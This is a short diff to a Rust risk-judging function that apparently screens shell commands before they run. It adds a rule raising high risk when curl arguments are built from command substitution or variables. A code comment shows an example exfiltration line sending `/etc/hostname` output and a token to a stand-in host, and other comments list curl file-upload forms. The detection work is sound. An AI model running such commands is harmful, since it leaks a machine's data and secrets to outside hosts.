@@ -479,6 +479,18 @@ pub fn judge(ctx: &Ctx, name: &str, args: &[String]) -> Option<Judgement> {
             }
             reaches_metadata(name, args, &mut j);
             reaches_local_admin(name, args, &mut j);
+            // A URL, header or value built from a command's output or a variable (`curl
+            // http://x.example/?d=$(cat /etc/hostname)`, `-H "X: $TOKEN"`) puts the machine's
+            // data in the request itself, whatever its method: a human decides.
+            if let Some(built) = args
+                .iter()
+                .find(|w| w.contains("__substitution__") || w.contains(['$', '`']))
+            {
+                j.raise(
+                    RiskLevel::High,
+                    format!("{name} {built}: built from a command's output or a variable when the line runs, it sends the machine's data with the request"),
+                );
+            }
             // What curl uploads from a file is read: `-d @FILE`, `--data-binary @FILE`,
             // `--data-urlencode NAME@FILE`, `-F NAME=@FILE` or `NAME=<FILE`, `-H @FILE`, and a
             // cookie value without `=` (a cookie file).
